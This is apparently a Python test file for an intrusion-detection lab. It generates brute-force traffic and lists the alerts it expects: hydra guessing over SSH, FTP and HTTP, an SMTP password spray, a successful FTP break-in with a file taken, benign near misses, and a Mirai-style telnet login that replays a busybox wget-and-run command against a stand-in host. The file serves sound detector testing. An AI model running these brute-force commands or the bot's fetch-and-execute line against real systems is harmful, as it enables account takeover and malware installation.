"""Guessing of passwords, with and without success, and people who mistype theirs."""
import services
import webserver
from cases import case

LATER = "Later, with the detector `brute_force`: one alert"
WORDS = "123456 password 12345678 qwerty letmein1 monkey dragon sunshine master shadow football trustno1 welcome admin root toor iloveyou princess abc123 starwars".split()


def words(lab, *last):
    return lab.write("words.txt", "\n".join(WORDS + list(last)) + "\n")


@case("brute_ssh", ["openssh-server", "hydra"], [f"{LATER} for 198.51.100.10 against SSH of 10.20.0.80: 20 failed logins.", "No `port_scan`: one service is not a scan."])
def brute_ssh(lab):
    """hydra tries 20 passwords for one account over SSH, one at a time per connection; none is right."""
    lab.edge()
    services.sshd(lab)
    lab.capture()
    lab.run("sk-c", f"hydra -I -t 4 -l root -P {words(lab)} ssh://10.20.0.80", timeout=120)


@case("brute_ftp", ["vsftpd", "hydra"], [f"{LATER} for 198.51.100.10 against FTP of 10.20.0.80: 20 failed logins (530).", "No `port_scan`."])
def brute_ftp(lab):
    """hydra tries 20 passwords for one account over FTP; none is right."""
    lab.edge()
    services.vsftpd(lab)
    lab.capture()
    lab.run("sk-c", f"hydra -I -t 4 -l alice -P {words(lab)} ftp://10.20.0.80", timeout=120)


@case("brute_http", webserver.PACKAGES + ["hydra"], [f"{LATER} for 198.51.100.10 against HTTP of 10.20.0.80: 40 failed logins (20 answered 401 by Basic, 20 told so by the login form with status 200).", "No `port_scan`, no `syn_flood`."])
def brute_http(lab):
    """hydra tries 20 passwords against HTTP Basic and 20 against a login form; none is right."""
    lab.edge()
    webserver.start(lab)
    lab.capture()
    lab.run("sk-c", f"hydra -I -t 4 -l operator -P {words(lab)} -m /admin/ http-get://10.20.0.80", timeout=60)
    lab.run("sk-c", f"hydra -I -t 4 -l alice -P {words(lab)} 10.20.0.80 http-post-form '/signin.php:user=^USER^&pass=^PASS^:Login failed'", timeout=60)


@case("brute_success", ["vsftpd", "hydra", "curl"], [f"{LATER}, RED: 20 failed logins over FTP, then a login that succeeds from the same address, and files are taken.", "No `port_scan`."])
def brute_success(lab):
    """hydra guesses the FTP password of an account at the 21st try; then the intruder logs in and takes the files."""
    lab.edge()
    services.vsftpd(lab)
    lab.capture()
    lab.run("sk-c", f"hydra -I -t 2 -l bob -P {words(lab, 'letmein')} ftp://10.20.0.80", timeout=120)
    lab.run("sk-c", "sleep 1; curl -s -m 5 -u bob:letmein ftp://10.20.0.80/; curl -s -m 5 -u bob:letmein -o /dev/null ftp://10.20.0.80/orders.csv")


@case("brute_spray", ["python3-aiosmtpd", "swaks", "dnsmasq"], [f"{LATER} for 198.51.100.10: one password tried for 15 accounts over SMTP AUTH (535 each).", "No `port_scan`."])
def brute_spray(lab):
    """A password spray over SMTP AUTH: one likely password for 15 accounts."""
    lab.edge()
    services.names(lab)
    services.maild(lab)
    lab.capture()
    lab.run("sk-c", "for u in anna bert carl dora emil fred gina hugo ines jan kira leo mia nina otto; do swaks --server 10.20.0.25 --helo client.example --from bob@client.example --to alice@shop.example --quit-after AUTH --auth LOGIN --auth-user $u --auth-password Summer-2026; done", timeout=60)


@case("brute_nearmiss", ["openssh-server", "sshpass", "vsftpd", "curl"] + webserver.PACKAGES, ["Nothing: three people mistype a password once or twice and then log in; a page answers 401 once before the browser sends the password, as HTTP Basic always does."])
def brute_nearmiss(lab):
    """The near miss of the brute force cases: people at three addresses who mistype a password once or twice over SSH, FTP and HTTP, then log in; and a browser that gets 401 before it sends the password."""
    lab.edge()
    lab.address("sk-c", "eth0", "198.51.100.21/24", "198.51.100.22/24", "198.51.100.23/24")
    services.sshd(lab)
    services.vsftpd(lab)
    webserver.start(lab)
    lab.capture()
    for word in ("Sprnig-2026", "Spring-2025", "Spring-2026"):
        lab.run("sk-c", f"sshpass -p {word} ssh {services.SSH} -b 198.51.100.21 -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 alice@10.20.0.80 id; sleep 1")
    for word in ("spring-2026", "Spring-2026"):
        lab.run("sk-c", f"curl -s -m 5 --interface 198.51.100.22 -u alice:{word} ftp://10.20.0.80/; sleep 1")
    for word in ("Sprnig-2026", "Spring-2026"):
        lab.run("sk-c", f"curl -s -m 5 --interface 198.51.100.23 -o /dev/null -d user=alice -d pass={word} http://www.shop.example/login.php; sleep 1")
    lab.run("sk-c", "for i in 1 2 3; do curl -s -m 5 --interface 198.51.100.23 -o /dev/null --anyauth -u operator:Green-Kettle-7 http://www.shop.example/admin/; done")


@case("brute_telnet", ["inetutils-telnetd", "socat", "ncat"], [f"{LATER} for 198.51.100.10 against telnet of 10.20.0.80: ten factory-set pairs, as Mirai and its kin try them; the last one succeeds, and the commands such a bot gives follow.", "Signatures for factory-set pairs and for the bot's busybox commands may fire.", "No `port_scan`."])
def brute_telnet(lab):
    """A bot guesses factory-set passwords over telnet; the tenth pair works, and it gives the commands such bots give. The commands do nothing here (a shell that only echoes)."""
    lab.edge()
    login = lab.write("login.sh", "#!/bin/sh\nprintf 'till login: '; read u; printf 'Password: '; stty -echo; read p; stty echo; echo\n"
                      "[ \"$u$p\" = rootvizxv ] || { echo 'Login incorrect'; exit; }\nwhile printf '# ' && read line; do case \"$line\" in *ECCHI*) echo 'ECCHI: applet not found';; exit) exit;; esac; done\n", 0o755)
    lab.spawn("sk-s", f"socat TCP4-LISTEN:23,bind=10.20.0.80,reuseaddr,fork EXEC:'{lab.write('telnetd.sh', f'#!/bin/sh{chr(10)}exec /usr/sbin/telnetd -h -E {login}{chr(10)}', 0o755)}',nofork", wait_port=23)
    pairs = "root:xc3511 root:admin admin:admin root:888888 root:xmhdipc root:default root:juantech root:123456 support:support root:vizxv"
    lab.capture()
    lab.run("sk-c", "for p in " + pairs + "; do (sleep 0.3; printf '%s\\r\\n' ${p%%:*}; sleep 0.3; printf '%s\\r\\n' ${p##*:}; sleep 0.4; "
            "[ $p = root:vizxv ] && { for c in enable system shell sh '/bin/busybox ECCHI' '/bin/busybox wget http://198.51.100.10/mips -O - > dvrHelper; chmod 777 dvrHelper; ./dvrHelper telnet.mips' exit; do printf '%s\\r\\n' \"$c\"; sleep 0.3; done; }; true) | ncat -t 10.20.0.80 23; done", timeout=60)
